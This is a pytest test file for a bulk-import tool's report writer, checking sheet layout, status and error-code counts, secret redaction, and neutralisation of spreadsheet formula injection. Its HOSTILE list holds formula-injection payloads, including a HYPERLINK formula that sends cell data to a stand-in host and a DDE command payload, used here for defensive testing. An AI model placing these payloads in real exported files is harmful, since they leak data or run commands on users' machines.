"""Reports: readable sheets, correct counts and hints, formula-safe cells, never a secret."""

from __future__ import annotations

import csv
import datetime as dt
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from bulkimport import codes
from bulkimport.errors import ConfigError
from bulkimport.planning import FAILURE_COLUMNS, Conversation, Plan
from bulkimport.reporting import (
    code_counts,
    conversation_counts,
    error_rows,
    status_counts,
    summary_lines,
    write_report,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-1+1",
    "\t=1+2",
    "\r=3+4",
]


def _sent_frame() -> pd.DataFrame:
    """A frame shaped like bulkimport.send's result: input columns plus the status columns."""
    n = len(HOSTILE) + 3
    idx = pd.Index(range(2, 2 + n), name="row")
    frame = pd.DataFrame(
        {
            "chat.id": ["c1"] * 4 + ["c2"] * (n - 4),
            "user.id": ["u1"] * n,
            "message.text": [*HOSTILE, "plain", "bell\x07char", "ok"],
            "message.date": pd.date_range("2024-01-01", periods=n, freq="h", tz="Europe/Berlin"),
        },
        index=idx,
    )
    status = ["sent"] * n
    code: list[object] = [None] * n
    status[1], code[1] = "failed", "CONNECTOR_PROXY_NO_ADD_USER"
    status[2], code[2] = "unknown", "ambiguous-timeout"
    status[3], code[3] = "pending", None
    status[4], code[4] = "failed", "CONNECTOR_PROXY_NO_ADD_USER"
    frame["import_status"] = status
    frame["import_error_code"] = code
    frame["import_error"] = [None if c is None else f"{c} said no" for c in code]
    frame["import_attempts"] = [1] * n
    frame["b24_chat_id"] = ["1767"] * n
    return frame


@dataclass
class _Summary:
    elapsed: float = 12.5
    messages_per_second: float = 3.25
    stopped_reason: str | None = None
    journal: str = "/tmp/history.journal.sqlite"
    access_token: str = "SECRET-ACCESS-abc123"
    client_secret: str = "SECRET-CLIENT-xyz"


def _all_cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    wb = openpyxl.load_workbook(path)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def test_xlsx_report_has_the_three_sheets_frozen_headers_and_widths(tmp_path):
    path = write_report(_sent_frame(), tmp_path / "out.xlsx", summary=_Summary())
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["rows", "errors", "summary"]
    rows = wb["rows"]
    header = [c.value for c in rows[1]]
    assert header[0] == "row" and header[-1] == "b24_chat_id" and "import_status" in header
    assert rows.max_row == len(_sent_frame()) + 1
    assert rows.freeze_panes == "B2" and wb["errors"].freeze_panes == "A2"
    assert rows.column_dimensions["A"].width >= 8
    assert rows["A1"].font.bold


def test_no_cell_becomes_a_formula_in_xlsx(tmp_path):
    path = write_report(_sent_frame(), tmp_path / "out.xlsx")
    cells = _all_cells(path)
    assert cells and all(c.data_type != "f" for c in cells)
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for hostile in HOSTILE:  # kept readable, just neutralised (XML turns a bare CR into LF)
        assert "'" + hostile.replace("\r", "\n") in texts


def test_hostile_headers_are_neutralised_too(tmp_path):
    frame = pd.DataFrame({"=cmd()": ["x"], "+a": ["@b"]}, index=pd.Index([2], name="row"))
    path = write_report(frame, tmp_path / "out.xlsx")
    assert all(c.data_type != "f" for c in _all_cells(path))
    csv_path = write_report(frame, tmp_path / "out.csv")
    with csv_path.open(encoding="utf-8-sig") as fh:
        header, first = list(csv.reader(fh))[:2]
    assert header[1:3] == ["'=cmd()", "'+a"] and first[2] == "'@b"


def test_no_cell_becomes_a_formula_in_csv(tmp_path):
    path = write_report(_sent_frame(), tmp_path / "out.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        records = list(csv.DictReader(fh))
    texts = [r["message.text"] for r in records]
    for hostile in HOSTILE:
        assert "'" + hostile in texts
    for record in records:
        for value in record.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
    failed = next(r for r in records if r["import_status"] == "failed")
    assert failed["import_hint"] == codes.hint("CONNECTOR_PROXY_NO_ADD_USER")


def test_counts_per_status_code_and_conversation():
    frame = _sent_frame()
    status = status_counts(frame).set_index("status")["rows"]
    assert status.to_dict() == {"sent": 5, "failed": 2, "invalid": 0, "unknown": 1, "pending": 1}
    by_code = code_counts(frame)
    assert list(by_code["code"][:1]) == ["CONNECTOR_PROXY_NO_ADD_USER"] and by_code["rows"].iloc[0] == 2
    assert by_code["hint"].iloc[0] == codes.hint("CONNECTOR_PROXY_NO_ADD_USER")
    conv = conversation_counts(frame).set_index("conversation")
    assert conv.loc["c1", "rows"] == 4 and conv.loc["c1", "failed"] == 1 and conv.loc["c1", "unknown"] == 1
    assert conv.loc["c2", "sent"] == 4


def test_errors_sheet_lists_every_row_not_sent_with_a_hint(tmp_path):
    frame = _sent_frame()
    errors = error_rows(frame)
    assert sorted(errors["row"]) == sorted(frame.index[frame["import_status"] != "sent"])
    assert all(errors["hint"].str.len() > 10)
    path = write_report(frame, tmp_path / "out.xlsx")
    ws = openpyxl.load_workbook(path)["errors"]
    assert ws.max_row == len(errors) + 1


def test_a_plan_without_a_send_reports_invalid_rows_with_field_and_value():
    idx = pd.Index([2, 3, 4], name="row")
    frame = pd.DataFrame({"chat.id": ["a", "a", "b"], "message.text": ["hi", "", "yo"]}, index=idx)
    failures = pd.DataFrame(
        [[3, "message.text", "empty-message", "error", "no text and no files", ""]], columns=FAILURE_COLUMNS
    )
    msgs = ({"user": {"id": "u"}, "message": {"id": "m", "date": 1, "text": "hi"}, "chat": {"id": "a"}},)
    plan = Plan(frame, [Conversation("a", (2,), msgs), Conversation("b", (4,), msgs)], failures)
    status = status_counts(frame, plan).set_index("status")["rows"]
    assert status["invalid"] == 1 and status["pending"] == 2
    errors = error_rows(frame, plan)
    assert len(errors) == 1  # a dry run lists only the invalid rows, not the pending ones
    assert errors.iloc[0][["row", "status", "code", "field"]].tolist() == [
        3,
        "invalid",
        "empty-message",
        "message.text",
    ]
    conv = conversation_counts(frame, plan)
    assert conv["conversation"].tolist() == ["a", "b"]


def test_secrets_never_reach_the_report(tmp_path):
    path = write_report(_sent_frame(), tmp_path / "out.xlsx", summary=_Summary())
    values = " ".join(str(c.value) for c in _all_cells(path) if c.value is not None)
    assert "SECRET" not in values
    assert "/tmp/history.journal.sqlite" in values and "3.25" in values


def test_summary_lines_name_counts_top_codes_with_hints_and_pace():
    lines = summary_lines(_sent_frame(), summary=_Summary())
    text = "\n".join(lines)
    assert "sent 5" in text and "failed 2" in text and "unknown 1" in text
    assert "CONNECTOR_PROXY_NO_ADD_USER ×2" in text and codes.hint("CONNECTOR_PROXY_NO_ADD_USER") in text
    assert "3.25 messages/s" in text and "SECRET" not in text


def test_odd_values_do_not_break_the_xlsx(tmp_path):
    frame = pd.DataFrame(
        {
            "text": ["a\x00b", "x" * 40000, None],
            "when": [dt.datetime(2024, 1, 1, tzinfo=dt.UTC), pd.NaT, dt.datetime(2024, 1, 2)],
            "n": [1, 2.5, float("nan")],
            "list": [["a", "b"], [], None],
        },
        index=pd.Index([2, 3, 4], name="row"),
    )
    path = write_report(frame, tmp_path / "odd.xlsx")
    ws = openpyxl.load_workbook(path)["rows"]
    assert ws["B2"].value == "a\ufffdb"
    assert len(ws["B3"].value) <= 32767
    assert ws["C2"].value == "2024-01-01T00:00:00+00:00"


@pytest.mark.parametrize("name", ["out.txt", "missing-dir/out.xlsx"])
def test_bad_report_paths_are_one_line_config_errors(tmp_path, name):
    with pytest.raises(ConfigError, match="--report") as info:
        write_report(_sent_frame(), tmp_path / name)
    assert "\n" not in str(info.value)
